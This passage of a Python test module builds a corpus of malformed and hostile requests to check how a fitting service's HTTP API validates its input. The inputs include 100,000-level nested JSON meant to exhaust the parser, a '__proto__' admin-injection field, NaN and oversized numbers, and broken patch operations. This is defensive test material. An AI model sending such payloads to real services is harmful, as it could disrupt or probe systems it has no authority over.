"""A corpus of malformed and hostile requests for the HTTP API and the web form.

Every case is generated from a small valid submission by one deliberate change,
so each one means something: truncated or broken JSON, a wrong type at every
level of the documents, huge numbers, deep nesting, patches that do not apply,
unknown patch operations, oversized bodies, wrong content types, broken
multipart, invalid UTF-8, NaN and infinities, negative yields, duplicate
names, a POI missing from the model, absurd options, hostile strings in names,
hostile job ids and query parameters.

``corpus()`` returns the cases; ``tests/service/test_hostile.py`` sends each to
a real service (uvicorn + redis-server + a worker) and checks the answer.
"""

from __future__ import annotations

import copy
import json
from dataclasses import dataclass
from typing import Any, Iterator

from .workload import tiny_workspace

#: the service the corpus is written for refuses bodies above this (Settings.max_body_bytes)
MAX_BODY = 1024 * 1024
BOUNDARY = "hostile-boundary-7MA4YWxkTrZu0gW"

#: needs fitserve.engine.inputs.check_measurement called in prepare_job (fitserve/service/api.py)
#: needs api._json to catch RecursionError and ValueError (parse_json in fitserve.engine.inputs does)
#: pyhf's schema allows strings as grid values (patch metadata 'values')


@dataclass(frozen=True)
class Case:
    """One request and what the service must answer.

    ``expect``: ``reject`` (a 4xx; ``status`` if given), ``accept`` (202, or 303
    to the job page for the web form; the job must then end cleanly) or
    ``either`` (4xx or accepted-and-clean; used where both are defensible).
    ``where``: the API error's ``detail.where`` must start with it; ``message``:
    ``detail.message`` must contain it.  ``names``: the hypotheses an accepted
    job must report, exactly (names survive the round trip).  ``known_bug``:
    the case fails today for a reason outside the validation code (xfail).
    ``isolated``: send it to a service of its own (an accepted job would break the others' listing).
    """

    id: str
    category: str
    method: str = "POST"
    path: str = "/v1/jobs"
    body: bytes | None = None
    content_type: str | None = "application/json"
    expect: str = "reject"
    status: int | None = None
    where: str | None = None
    message: str | None = None
    names: tuple[str, ...] | None = None
    chunked: bool = False
    known_bug: str | None = None
    isolated: bool = False
    extra_headers: tuple[tuple[str, str], ...] = ()

    @property
    def api(self) -> bool:
        return self.path.startswith("/v1/")

    def headers(self) -> dict[str, str]:
        h = dict(self.extra_headers)
        if self.content_type is not None:
            h["content-type"] = self.content_type
        return h


# --- the valid documents everything is derived from ---------------------------------------


def signal_patch(name: str, signal: float = 15.0, values: list[float] | None = None) -> dict[str, Any]:
    return {
        "metadata": {"name": name, "values": [100.0] if values is None else values},
        "patch": [
            {
                "op": "add",
                "path": "/channels/0/samples/1",
                "value": {
                    "name": "signal",
                    "data": [signal],
                    "modifiers": [{"name": "mu", "type": "normfactor", "data": None}],
                },
            }
        ],
    }


def tiny_patchset(names: tuple[str, ...] = ("sig_0", "sig_1"), labels: list[str] | None = None) -> dict[str, Any]:
    patches = [signal_patch(n, 5.0 + 10.0 * i, [100.0 + 50.0 * i]) for i, n in enumerate(names)]
    return {
        "metadata": {
            "name": "tiny",
            "description": "hostile corpus",
            "digests": {"sha256": "0" * 64},
            "labels": labels or ["m_X"],
            "references": {"hepdata": "ins0000000"},
        },
        "patches": patches,
        "version": "1.0.0",
    }


def tiny_body(**options: Any) -> dict[str, Any]:
    return {"workspace": tiny_workspace(), "patchset": tiny_patchset(), "options": options}


def rich_workspace() -> dict[str, Any]:
    """Two channels and every modifier type that carries numbers (normsys, histosys, staterror, shapesys, lumi)."""
    return {
        "channels": [
            {
                "name": "SR",
                "samples": [
                    {
                        "name": "bkg",
                        "data": [40.0, 20.0],
                        "modifiers": [
                            {"name": "norm_bkg", "type": "normsys", "data": {"hi": 1.1, "lo": 0.92}},
                            {
                                "name": "shape_bkg",
                                "type": "histosys",
                                "data": {"hi_data": [42.0, 22.0], "lo_data": [38.0, 18.5]},
                            },
                            {"name": "staterror_SR", "type": "staterror", "data": [2.0, 1.5]},
                            {"name": "lumi", "type": "lumi", "data": None},
                        ],
                    }
                ],
            },
            {
                "name": "CR",
                "samples": [
                    {
                        "name": "bkg",
                        "data": [100.0],
                        "modifiers": [
                            {"name": "uncorr_CR", "type": "shapesys", "data": [8.0]},
                            {"name": "lumi", "type": "lumi", "data": None},
                        ],
                    }
                ],
            },
        ],
        "observations": [{"name": "SR", "data": [43.0, 19.0]}, {"name": "CR", "data": [104.0]}],
        "measurements": [
            {
                "name": "meas",
                "config": {
                    "poi": "mu_sig",
                    "parameters": [
                        {"name": "lumi", "auxdata": [1.0], "sigmas": [0.02], "bounds": [[0.5, 1.5]], "inits": [1.0]}
                    ],
                },
            },
            {
                "name": "meas_alt",
                "config": {
                    "poi": "mu_sig",
                    "parameters": [
                        {"name": "lumi", "auxdata": [1.0], "sigmas": [0.05], "bounds": [[0.5, 1.5]], "inits": [1.0]}
                    ],
                },
            },
        ],
        "version": "1.0.0",
    }


def rich_patchset() -> dict[str, Any]:
    patches = []
    for i, (m, s) in enumerate([(300.0, [6.0, 3.0]), (500.0, [2.0, 1.0])]):
        patches.append(
            {
                "metadata": {"name": f"rich_{i}", "values": [m, 100.0]},
                "patch": [
                    {
                        "op": "add",
                        "path": "/channels/0/samples/-",
                        "value": {
                            "name": "signal",
                            "data": s,
                            "modifiers": [
                                {"name": "mu_sig", "type": "normfactor", "data": None},
                                {"name": "sig_syst", "type": "normsys", "data": {"hi": 1.05, "lo": 0.95}},
                            ],
                        },
                    }
                ],
            }
        )
    return {
        "metadata": {
            "name": "rich",
            "description": "hostile corpus",
            "digests": {"sha256": "1" * 64},
            "labels": ["m_A", "m_B"],
            "references": {"hepdata": "ins0000001"},
        },
        "patches": patches,
        "version": "1.0.0",
    }


def rich_body(**options: Any) -> dict[str, Any]:
    return {"workspace": rich_workspace(), "patchset": rich_patchset(), "options": options}


def dumps(obj: Any) -> bytes:
    return json.dumps(obj).encode()


def multipart(parts: list[tuple[str, str | None, str | None, bytes]], boundary: str = BOUNDARY) -> bytes:
    """A multipart/form-data body; each part is (field name, filename or None, content type or None, bytes)."""
    out = b""
    for name, filename, ctype, data in parts:
        disp = f'form-data; name="{name}"' + (f'; filename="{filename}"' if filename is not None else "")
        out += f"--{boundary}\r\nContent-Disposition: {disp}\r\n".encode()
        if ctype:
            out += f"Content-Type: {ctype}\r\n".encode()
        out += b"\r\n" + data + b"\r\n"
    return out + f"--{boundary}--\r\n".encode()


MULTIPART = f"multipart/form-data; boundary={BOUNDARY}"


def files(
    workspace: Any = None, patchset: Any = None, options: Any = None
) -> list[tuple[str, str | None, str | None, bytes]]:
    parts = []
    for name, doc in (("workspace", workspace), ("patchset", patchset)):
        if doc is not None:
            parts.append((name, f"{name}.json", "application/json", doc if isinstance(doc, bytes) else dumps(doc)))
    if options is not None:
        parts.append(("options", None, None, options if isinstance(options, bytes) else dumps(options)))
    return parts


def web_form(workspace: Any = None, patchset: Any = None, **fields: str) -> bytes:
    parts = files(workspace, patchset)
    for key, value in fields.items():
        parts.append((key, None, None, value.encode("utf-8", "surrogatepass")))
    return multipart(parts)


def _json_case(id: str, category: str, body: Any, **kw: Any) -> Case:
    return Case(id=id, category=category, body=body if isinstance(body, bytes) else dumps(body), **kw)


# --- the categories ---------------------------------------------------------------------


def baselines() -> Iterator[Case]:
    """The valid submissions everything else is derived from: they must be accepted and fitted."""
    yield _json_case("baseline-json", "baseline", tiny_body(), expect="accept", names=("sig_0", "sig_1"))
    yield Case(
        "baseline-multipart",
        "baseline",
        body=multipart(files(tiny_workspace(), tiny_patchset(), {"test_stat": "qtilde"})),
        content_type=MULTIPART,
        expect="accept",
        names=("sig_0", "sig_1"),
    )
    yield _json_case("baseline-rich", "baseline", rich_body(), expect="accept", names=("rich_0", "rich_1"))
    yield _json_case(
        "baseline-rich-second-measurement",
        "baseline",
        rich_body(measurement="meas_alt"),
        expect="accept",
        names=("rich_0", "rich_1"),
    )
    full = tiny_workspace()
    full["channels"][0]["samples"].append(signal_patch("x")["patch"][0]["value"])
    yield _json_case("baseline-full-workspace", "baseline", {"workspace": full}, expect="accept", names=("meas",))
    yield Case(
        "baseline-web-form",
        "baseline",
        path="/full",
        body=web_form(tiny_workspace(), tiny_patchset(), test_stat="qtilde"),
        content_type=MULTIPART,
        expect="accept",
        names=("sig_0", "sig_1"),
    )


def broken_json() -> Iterator[Case]:
    text = dumps(tiny_body())
    for frac in (0.0, 0.02, 0.1, 0.25, 0.4, 0.5, 0.6, 0.75, 0.9, 0.99):
        cut = max(1, int(len(text) * frac))
        yield _json_case(
            f"truncated-at-{cut}-of-{len(text)}",
            "truncated JSON",
            text[:cut],
            status=422,
            where="request body",
            message="not valid JSON",
        )
    yield _json_case("truncated-last-brace", "truncated JSON", text[:-1], status=422, where="request body")
    syntax = {
        "trailing-comma": text[:-1] + b",}",
        "single-quotes": text.replace(b'"', b"'"),
        "js-comment": b"// comment\n" + text,
        "unquoted-keys": text.replace(b'"workspace"', b"workspace"),
        "undefined": b'{"workspace": undefined}',
        "two-documents": text + text,
        "raw-newline-in-string": text.replace(b'"sig_0"', b'"sig\n0"'),
        "hex-number": text.replace(b"52.0", b"0x34"),
        "leading-zero": text.replace(b"52.0", b"052"),
        "plus-sign": text.replace(b"52.0", b"+52"),
        "lone-bracket": b"]",
        "lone-quote": b'"',
        "python-literals": text.replace(b"null", b"None"),
    }
    for name, body in syntax.items():
        yield _json_case(
            f"syntax-{name}", "broken JSON", body, status=422, where="request body", message="not valid JSON"
        )
    for name, body in {"empty": b"", "space": b"   ", "newline": b"\n", "nul-byte": b"\x00"}.items():
        yield _json_case(f"empty-body-{name}", "empty body", body, status=422, where="request body")
    for name, body in {
        "null": b"null",
        "array": b"[]",
        "number": b"0",
        "string": b'"workspace"',
        "true": b"true",
        "array-of-body": b"[" + text + b"]",
    }.items():
        yield _json_case(f"body-is-{name}", "wrong type", body, status=422, where="request body")
    yield _json_case("body-empty-object", "empty body", {}, status=422, where="workspace", message="missing")
    yield _json_case(
        "workspace-null", "empty body", {"workspace": None, "patchset": tiny_patchset()}, status=422, where="workspace"
    )
    yield _json_case(
        "workspace-empty-object",
        "empty body",
        {"workspace": {}, "patchset": tiny_patchset()},
        status=422,
        where="workspace",
    )
    yield _json_case(
        "unknown-top-level-field", "wrong type", {**tiny_body(), "evil": 1}, status=422, where="request body"
    )
    yield _json_case(
        "proto-top-level-field",
        "wrong type",
        {**tiny_body(), "__proto__": {"admin": True}},
        status=422,
        where="request body",
    )
    # encodings json.loads accepts: a BOM, UTF-16, UTF-32 (RFC 8259 says UTF-8, but these are unambiguous)
    yield _json_case("utf8-bom", "encoding", b"\xef\xbb\xbf" + text, expect="accept", names=("sig_0", "sig_1"))
    yield _json_case(
        "utf16-body", "encoding", json.dumps(tiny_body()).encode("utf-16"), expect="accept", names=("sig_0", "sig_1")
    )
    yield _json_case(
        "utf32-body", "encoding", json.dumps(tiny_body()).encode("utf-32"), expect="accept", names=("sig_0", "sig_1")
    )


_ALTERNATIVES = {
    dict: [None, "x", []],
    list: [None, "x", {}],
    str: [None, 7, []],
    float: [None, "x", {}, True],
    int: [None, "x", {}],
    type(None): ["x", 7, {}],
    bool: [None, "x", 7],
}


def _nodes(obj: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[tuple[Any, ...], Any]]:
    yield path, obj
    if isinstance(obj, dict):
        for k, v in obj.items():
            yield from _nodes(v, (*path, k))
    elif isinstance(obj, list):
        for i, v in enumerate(obj):
            yield from _nodes(v, (*path, i))


def _set(doc: Any, path: tuple[Any, ...], value: Any) -> Any:
    doc = copy.deepcopy(doc)
    node = doc
    for p in path[:-1]:
        node = node[p]
    node[path[-1]] = value
    return doc


def wrong_types() -> Iterator[Case]:
    """Each node of a valid submission replaced by values of other JSON types."""
    base = tiny_body(
        test_stat="qtilde",
        poi_test=1.0,
        cls_only=False,
        confidence_level=0.95,
        modifier_settings="atlas",
        patches=["sig_0", "sig_1"],
    )
    for path, value in _nodes(base):
        if not path or (len(path) >= 2 and path[:2] == ("patchset", "patches") and len(path) > 2 and path[2] != 0):
            continue  # the root; patches beyond the first repeat the first
        top = path[0]
        pointer = "/" + "/".join(map(str, path[1:]))
        for alt in _ALTERNATIVES[type(value)]:
            kw: dict[str, Any] = {"status": 422}
            if top == "options":
                if path == ("options",) and alt is None:
                    kw = {"expect": "accept", "status": None, "names": ("sig_0", "sig_1")}  # null options: the defaults
                elif path == ("options", "poi_test") and alt is True:
                    kw = {"expect": "either", "status": None, "names": ("sig_0", "sig_1")}  # pydantic reads true as 1.0
                elif path == ("options", "patches") and alt is None:
                    kw = {"expect": "accept", "status": None, "names": ("sig_0", "sig_1")}  # no subset: all patches
                else:
                    kw["where"] = "options"
            elif path == ("patchset",) and alt is None:
                kw["where"] = "options.patches"  # a patch subset without a patchset
            elif path == ("patchset", "patches", 0, "metadata", "values", 0) and alt == "x":
                kw = {"expect": "accept", "status": None, "names": ("sig_0", "sig_1")}
            elif path == ("patchset", "metadata", "name"):
                kw = {
                    "expect": "accept",
                    "status": None,
                    "names": ("sig_0", "sig_1"),
                }  # not in pyhf's schema: free-form
            elif path == ("workspace",) and alt is None:
                kw["where"] = "workspace"
            else:
                kw["where"] = top
            yield _json_case(
                f"type-{top}{pointer if len(path) > 1 else ''}-as-{type(alt).__name__}",
                "wrong type at every level",
                _set(base, path, alt),
                **kw,
            )


def _text_variant(body: dict[str, Any], marker: float, literal: str) -> bytes:
    """``body`` as JSON text with the number ``marker`` written as ``literal`` (for numbers json.dumps cannot write)."""
    text = json.dumps(body)
    token = json.dumps(marker)
    assert text.count(token) == 1, (marker, text.count(token))
    return text.replace(token, literal).encode()


#: numeric places of the tiny or rich submission: label -> (document, path in the body, where a non-finite number
#: is reported, where a negative one is).  NaN/inf are found scanning the documents (patchset pointers), negative
#: numbers in the patched model (model pointers); None: negative is legitimate there (bounds, grid values).
_PLACES: dict[str, tuple[str, tuple[Any, ...], str, str | None]] = {}


def _place(label: str, kind: str, path: tuple[Any, ...], nonfinite: str, negative: str | None) -> None:
    _PLACES[label] = (kind, path, nonfinite, negative)


_SIG = ("patchset", "patches", 1, "patch", 0, "value")
for _label, _kind, _path, _nf, _neg in [
    # negative yields and templates are legitimate (negative-weight Monte Carlo); a negative expected rate is not
    (
        "bkg-yield",
        "tiny",
        ("workspace", "channels", 0, "samples", 0, "data", 0),
        "workspace /channels/0/samples/0/data/0",
        "workspace /channels/0/samples",
    ),
    ("observation", "tiny", ("workspace", "observations", 0, "data", 0), "workspace /observations/0/data/0", "="),
    (
        "normsys-hi",
        "tiny",
        ("workspace", "channels", 0, "samples", 0, "modifiers", 0, "data", "hi"),
        "workspace /channels/0/samples/0/modifiers/0/data/hi",
        "=",
    ),
    (
        "normsys-lo",
        "tiny",
        ("workspace", "channels", 0, "samples", 0, "modifiers", 0, "data", "lo"),
        "workspace /channels/0/samples/0/modifiers/0/data/lo",
        "=",
    ),
    ("signal-yield", "tiny", (*_SIG, "data", 0), "patchset: patch 'sig_1' /patches/1/patch/0/value/data/0", None),
    (
        "grid-value",
        "tiny",
        ("patchset", "patches", 1, "metadata", "values", 0),
        "patchset: patch 'sig_1' /patches/1/metadata/values/0",
        None,
    ),
    (
        "histosys-hi",
        "rich",
        ("workspace", "channels", 0, "samples", 0, "modifiers", 1, "data", "hi_data", 1),
        "workspace /channels/0/samples/0/modifiers/1/data/hi_data/1",
        None,
    ),
    (
        "histosys-lo",
        "rich",
        ("workspace", "channels", 0, "samples", 0, "modifiers", 1, "data", "lo_data", 0),
        "workspace /channels/0/samples/0/modifiers/1/data/lo_data/0",
        None,
    ),
    (
        "staterror",
        "rich",
        ("workspace", "channels", 0, "samples", 0, "modifiers", 2, "data", 1),
        "workspace /channels/0/samples/0/modifiers/2/data/1",
        None,
    ),
    (
        "shapesys",
        "rich",
        ("workspace", "channels", 1, "samples", 0, "modifiers", 0, "data", 0),
        "workspace /channels/1/samples/0/modifiers/0/data/0",
        None,
    ),
    ("rich-observation", "rich", ("workspace", "observations", 0, "data", 1), "workspace /observations/0/data/1", "="),
    (
        "lumi-bounds",
        "rich",
        ("workspace", "measurements", 0, "config", "parameters", 0, "bounds", 0, 1),
        "workspace /measurements/0/config/parameters/0/bounds/0/1",
        None,
    ),
    (
        "lumi-sigma",
        "rich",
        ("workspace", "measurements", 0, "config", "parameters", 0, "sigmas", 0),
        "workspace /measurements/0/config/parameters/0/sigmas/0",
        None,
    ),
    (
        "lumi-auxdata",
        "rich",
        ("workspace", "measurements", 0, "config", "parameters", 0, "auxdata", 0),
        "workspace /measurements/0/config/parameters/0/auxdata/0",
        None,
    ),
    (
        "signal-normsys-hi",
        "rich",
        ("patchset", "patches", 1, "patch", 0, "value", "modifiers", 1, "data", "hi"),
        "patchset: patch 'rich_1' /patches/1/patch/0/value/modifiers/1/data/hi",
        "patchset: patch 'rich_1' /channels/0/samples/1/modifiers/1/data/hi",
    ),
]:
    _place(_label, _kind, _path, _nf, _nf if _neg == "=" else _neg)


def _marked(kind: str, path: tuple[Any, ...], marker: float) -> dict[str, Any]:
    return _set(tiny_body() if kind == "tiny" else rich_body(), path, marker)


def non_finite() -> Iterator[Case]:
    """NaN / Infinity literals and numbers beyond a float at every numeric place; huge but finite ones pass."""
    marker = 123.456789
    for label, (kind, path, where, _) in _PLACES.items():
        body = _marked(kind, path, marker)
        for literal in ("NaN", "Infinity", "-Infinity", "1e400", "-1e400", "1" + "0" * 400):
            yield Case(
                f"number-{literal[:8]}-at-{label}",
                "NaN / infinity / huge numbers",
                body=_text_variant(body, marker, literal),
                status=422,
                where=where,
            )
    for option in ("poi_test", "confidence_level"):
        body = tiny_body(**{option: marker})
        for literal in ("NaN", "Infinity", "-Infinity", "1e400", "1" + "0" * 400):
            yield Case(
                f"number-{literal[:8]}-as-options.{option}",
                "NaN / infinity / huge numbers",
                body=_text_variant(body, marker, literal),
                status=422,
                where=f"options.{option}",
            )
    # more digits than Python's int() converts (4300): json.loads raises ValueError
    body = _marked("tiny", _PLACES["observation"][1], marker)
    yield Case(
        "number-5000-digit-integer",
        "NaN / infinity / huge numbers",
        body=_text_variant(body, marker, "9" * 5000),
        status=422,
        where="request body",
    )
    # finite extremes are numbers: accepted, and the fit must end cleanly (converged or not) ...
    for literal in ("1e308", "1e-300", "123456789012345678901234567890"):
        body = _marked("tiny", _PLACES["bkg-yield"][1], marker)
        yield Case(
            f"number-finite-extreme-{literal}-as-background-yield",
            "NaN / infinity / huge numbers",
            body=_text_variant(body, marker, literal),
            expect="accept",
            names=("sig_0", "sig_1"),
        )
    # ... but a yield that is exactly zero (1e-400 underflows) leaves no rate for the observed events
    for literal in ("1e-400", "-0.0"):
        body = _marked("tiny", _PLACES["bkg-yield"][1], marker)
        yield Case(
            f"number-finite-extreme-{literal}-as-background-yield",
            "NaN / infinity / huge numbers",
            body=_text_variant(body, marker, literal),
            status=422,
            where="workspace /channels/0/samples",
        )
    body = _marked("tiny", _PLACES["grid-value"][1], marker)
    yield Case(
        "number-1e308-as-grid-value",
        "NaN / infinity / huge numbers",
        body=_text_variant(body, marker, "1e308"),
        expect="accept",
        names=("sig_0", "sig_1"),
    )
    yield _json_case(
        "number-1e6-as-poi_test", "absurd options", tiny_body(poi_test=1e6), expect="accept", names=("sig_0", "sig_1")
    )


def negative_values() -> Iterator[Case]:
    marker = 123.456789
    for label, (kind, path, _, where) in _PLACES.items():
        if where is None:
            continue
        body = _marked(kind, path, marker)
        yield Case(
            f"negative-at-{label}", "negative values", body=_text_variant(body, marker, "-1.5"), status=422, where=where
        )
        if where.endswith(("/hi", "/lo")):  # normsys factors: zero is as bad
            yield Case(
                f"zero-at-{label}", "negative values", body=_text_variant(body, marker, "0"), status=422, where=where
            )
    # booleans are JSON values of another type, though Python counts them as numbers
    yield _json_case(
        "boolean-as-yield",
        "wrong type",
        _set(tiny_body(), ("workspace", "channels", 0, "samples", 0, "data", 0), True),
        status=422,
        where="workspace /channels/0/samples/0/data/0",
    )


def deep_nesting() -> Iterator[Case]:
    n = 100_000
    yield _json_case("deep-100000-arrays", "deep nesting", b"[" * n + b"]" * n, status=422, where="request body")
    yield _json_case(
        "deep-100000-objects", "deep nesting", b'{"a":' * n + b"1" + b"}" * n, status=422, where="request body"
    )
    yield _json_case("deep-100000-arrays-unclosed", "deep nesting", b"[" * n, status=422, where="request body")
    deep = json.loads("[" * 500 + "]" * 500)  # parses (the limit is ~1000 less the stack in use)
    yield _json_case(
        "deep-500-as-workspace",
        "deep nesting",
        {"workspace": deep, "patchset": tiny_patchset()},
        status=422,
        where="workspace",
    )
    yield _json_case(
        "deep-500-in-measurement-config",
        "deep nesting",
        _set(tiny_body(), ("workspace", "measurements", 0, "config", "extra"), deep),
        status=422,
        where="workspace /measurements/0/config/extra/0/0/0",
        message="nested deeper",
    )
    yield _json_case(
        "deep-500-in-patch-value",
        "deep nesting",
        _set(tiny_body(), ("patchset", "patches", 0, "patch", 0, "value", "data"), deep),
        status=422,
        where="patchset: patch 'sig_0' /patches/0/patch/0/value/data/0/0",
        message="nested deeper",
    )
    yield _json_case(
        "deep-500-in-patch-metadata",
        "deep nesting",
        _set(tiny_body(), ("patchset", "metadata", "references", "x"), deep),
        status=422,
        where="patchset /metadata/references/x/0/0",
        message="nested deeper",
    )
    yield _json_case(
        "deep-500-in-options",
        "deep nesting",
        _set(tiny_body(), ("options", "modifier_settings"), {"normsys": deep}),
        status=422,
        where="options",
    )
    yield _json_case(
        "deep-500-as-patch-name-list", "deep nesting", tiny_body(patches=deep), status=422, where="options.patches"
    )
    yield Case(
        "deep-100000-multipart-workspace",
        "deep nesting",
        body=multipart(files(b"[" * n + b"]" * n, tiny_patchset())),
        content_type=MULTIPART,
        status=422,
        where="workspace (upload)",
    )
    yield Case(
        "deep-100000-multipart-options",
        "deep nesting",
        body=multipart(files(tiny_workspace(), tiny_patchset(), b"[" * n + b"]" * n)),
        content_type=MULTIPART,
        status=422,
        where="options (upload)",
    )
    yield Case(
        "deep-100000-web-form-workspace",
        "deep nesting",
        path="/full",
        body=web_form(b"[" * n + b"]" * n, tiny_patchset()),
        content_type=MULTIPART,
        status=422,
    )


def _with_op(op: dict[str, Any] | list[dict[str, Any]], keep_signal: bool = False) -> dict[str, Any]:
    """The tiny submission whose first patch ('sig_0') is ``op`` (after its signal sample if ``keep_signal``)."""
    body = tiny_body()
    ops = op if isinstance(op, list) else [op]
    patch = body["patchset"]["patches"][0]
    patch["patch"] = (patch["patch"] if keep_signal else []) + ops
    return body


def bad_patches() -> Iterator[Case]:
    sig = signal_patch("x")["patch"][0]["value"]
    at_sig0 = "patchset: patch 'sig_0'"
    cases: dict[str, tuple[Any, dict[str, Any]]] = {
        # paths that lead nowhere
        "add-to-channel-5": (
            {"op": "add", "path": "/channels/5/samples/1", "value": sig},
            {"message": "does not apply"},
        ),
        "add-to-sample-9": (
            {"op": "add", "path": "/channels/0/samples/9", "value": sig},
            {"message": "does not apply"},
        ),
        "dash-in-the-middle": (
            {"op": "add", "path": "/channels/-/samples/1", "value": sig},
            {"message": "does not apply"},
        ),
        "leading-zero-index": (
            {"op": "add", "path": "/channels/0/samples/01", "value": sig},
            {"message": "does not apply"},
        ),
        "unicode-digit-index": (
            {"op": "add", "path": "/channels/\u00b2/samples/1", "value": sig},
            {"message": "does not apply"},
        ),
        "bad-escape": ({"op": "add", "path": "/channels/0/samples/~2", "value": sig}, {"message": "does not apply"}),
        "into-a-number": (
            {"op": "add", "path": "/channels/0/samples/0/data/0/x", "value": sig},
            {"message": "does not apply"},
        ),
        "replace-missing-sample": (
            {"op": "replace", "path": "/channels/0/samples/1", "value": sig},
            {"message": "does not apply"},
        ),
        "remove-missing": ({"op": "remove", "path": "/channels/0/samples/5"}, {"message": "does not apply"}),
        "move-from-missing": (
            {"op": "move", "from": "/channels/3", "path": "/channels/0/samples/1"},
            {"message": "does not apply"},
        ),
        "huge-index": (
            {"op": "add", "path": "/channels/0/samples/" + "9" * 40, "value": sig},
            {"message": "does not apply"},
        ),
        "long-path": (
            {"op": "add", "path": "/channels/0/samples/1" + "/x" * 5000, "value": sig},
            {"message": "does not apply"},
        ),
        "test-fails": (
            [
                {"op": "test", "path": "/version", "value": "9.9.9"},
                {"op": "add", "path": "/channels/0/samples/1", "value": sig},
            ],
            {"message": "does not apply"},
        ),
        # paths that apply but break the model
        "replace-root-with-sample": (
            {"op": "replace", "path": "", "value": sig},
            {"message": "channels must be a list"},
        ),
        "replace-root-with-list": ({"op": "replace", "path": "", "value": [1, 2]}, {"message": "not a JSON object"}),
        "add-at-empty-key": (
            {"op": "add", "path": "/", "value": sig},
            {"where": f"{at_sig0} /", "message": "top level"},
        ),
        "add-top-level-key": (
            {"op": "add", "path": "/evil", "value": 1},
            {"where": f"{at_sig0} /evil", "message": "top level"},
        ),
        "sample-null": (
            {"op": "add", "path": "/channels/0/samples/1", "value": None},
            {"where": f"{at_sig0} /channels/0/samples/1", "message": "JSON object"},
        ),
        "sample-without-data": (
            {"op": "add", "path": "/channels/0/samples/1", "value": {k: v for k, v in sig.items() if k != "data"}},
            {"where": f"{at_sig0} /channels/0/samples/1/data"},
        ),
        "sample-without-name": (
            {"op": "add", "path": "/channels/0/samples/1", "value": {k: v for k, v in sig.items() if k != "name"}},
            {"where": f"{at_sig0} /channels/0/samples/1/name"},
        ),
        "sample-two-bins": (
            {"op": "add", "path": "/channels/0/samples/1", "value": {**sig, "data": [1.0, 2.0]}},
            {"where": f"{at_sig0} /channels/0/samples/1/data", "message": "bins"},
        ),
        "sample-no-bins": (
            {"op": "add", "path": "/channels/0/samples/1", "value": {**sig, "data": []}},
            {"where": f"{at_sig0} /channels/0/samples/1/data"},
        ),
        "sample-data-strings": (
            {"op": "add", "path": "/channels/0/samples/1", "value": {**sig, "data": ["5"]}},
            {"where": f"{at_sig0} /channels/0/samples/1/data/0"},
        ),
        "sample-named-like-background": (
            {"op": "add", "path": "/channels/0/samples/1", "value": {**sig, "name": "bkg"}},
            {"where": f"{at_sig0} /channels/0/samples/1/name", "message": "duplicate sample"},
        ),
        "unknown-modifier-type": (
            {
                "op": "add",
                "path": "/channels/0/samples/1",
                "value": {**sig, "modifiers": [{"name": "mu", "type": "superfactor", "data": None}]},
            },
            {"where": f"{at_sig0} /channels/0/samples/1/modifiers/0/type"},
        ),
        "normfactor-with-data": (
            {
                "op": "add",
                "path": "/channels/0/samples/1",
                "value": {**sig, "modifiers": [{"name": "mu", "type": "normfactor", "data": [1.0]}]},
            },
            {"where": f"{at_sig0} /channels/0/samples/1/modifiers/0/data"},
        ),
        "modifiers-not-a-list": (
            {"op": "add", "path": "/channels/0/samples/1", "value": {**sig, "modifiers": "mu"}},
            {"where": f"{at_sig0} /channels/0/samples/1/modifiers"},
        ),
        "copy-background": (
            {"op": "copy", "from": "/channels/0/samples/0", "path": "/channels/0/samples/-"},
            {"where": f"{at_sig0} /channels/0/samples/1/name", "message": "duplicate sample"},
        ),
        "move-yields-to-observations": (
            [{"op": "move", "from": "/channels/0/samples/0/data", "path": "/observations/0/data"}],
            {"where": f"{at_sig0} /channels/0/samples/0/data"},
        ),
        "remove-background-yields": (
            [{"op": "remove", "path": "/channels/0/samples/0/data"}],
            {"where": f"{at_sig0} /channels/0/samples/0/data"},
        ),
        "remove-channels": ([{"op": "remove", "path": "/channels"}], {"where": f"{at_sig0} /channels"}),
        "replace-observation-negative": (
            [{"op": "replace", "path": "/observations/0/data/0", "value": -3}],
            {"where": f"{at_sig0} /observations/0/data/0"},
        ),
        "replace-background-yield-string": (
            [{"op": "replace", "path": "/channels/0/samples/0/data/0", "value": "50"}],
            {"where": f"{at_sig0} /channels/0/samples/0/data/0"},
        ),
        "observation-two-bins": (
            [{"op": "add", "path": "/observations/0/data/-", "value": 3.0}],
            {"where": f"{at_sig0} /observations/0/data", "message": "bins"},
        ),
    }
    for name, (op, kw) in cases.items():
        keep = name in (
            "move-yields-to-observations",
            "remove-background-yields",
            "remove-channels",
            "replace-observation-negative",
            "replace-background-yield-string",
            "observation-two-bins",
        )
        kw = {"where": at_sig0, **kw}
        yield _json_case(
            f"patch-{name}", "patch does not apply / breaks the model", _with_op(op, keep_signal=keep), status=422, **kw
        )
    # patches that apply and keep a valid model: accepted
    yield _json_case(
        "patch-test-op-passes",
        "patch operations",
        _with_op(
            [
                {"op": "test", "path": "/version", "value": "1.0.0"},
                {"op": "add", "path": "/channels/0/samples/1", "value": sig},
            ]
        ),
        expect="accept",
        names=("sig_0", "sig_1"),
    )
    yield _json_case(
        "patch-append-with-dash",
        "patch operations",
        _with_op({"op": "add", "path": "/channels/0/samples/-", "value": sig}),
        expect="accept",
        names=("sig_0", "sig_1"),
    )
    yield _json_case(
        "patch-also-changes-observation",
        "patch operations",
        _with_op([{"op": "replace", "path": "/observations/0/data/0", "value": 60.0}], keep_signal=True),
        expect="accept",
        names=("sig_0", "sig_1"),
    )
    yield _json_case(
        "patch-op-with-extra-key",
        "patch operations",
        _with_op({"op": "add", "path": "/channels/0/samples/1", "value": sig, "evil": "ignored"}),
        expect="accept",
        names=("sig_0", "sig_1"),
    )
    yield _json_case(
        "patch-without-signal",
        "POI missing",
        _with_op([]),
        status=422,
        where="patchset: patch 'sig_0' /measurements/0/config/poi",
        message="POI",
    )


def bad_operations() -> Iterator[Case]:
    sig = signal_patch("x")["patch"][0]["value"]
    where = "patchset: patch 'sig_0' /patches/0/patch/0"
    for name, op in {
        "foo": {"op": "foo", "path": "/channels/0/samples/1", "value": sig},
        "upper-case-ADD": {"op": "ADD", "path": "/channels/0/samples/1", "value": sig},
        "empty": {"op": "", "path": "/channels/0/samples/1", "value": sig},
        "null": {"op": None, "path": "/channels/0/samples/1", "value": sig},
        "number": {"op": 1, "path": "/channels/0/samples/1", "value": sig},
        "list": {"op": ["add"], "path": "/channels/0/samples/1", "value": sig},
        "get": {"op": "_get", "path": "/channels/0/samples/1"},
        "missing": {"path": "/channels/0/samples/1", "value": sig},
    }.items():
        yield _json_case(
            f"op-{name}",
            "unknown patch operations",
            _with_op(op),
            status=422,
            where=f"{where}/op",
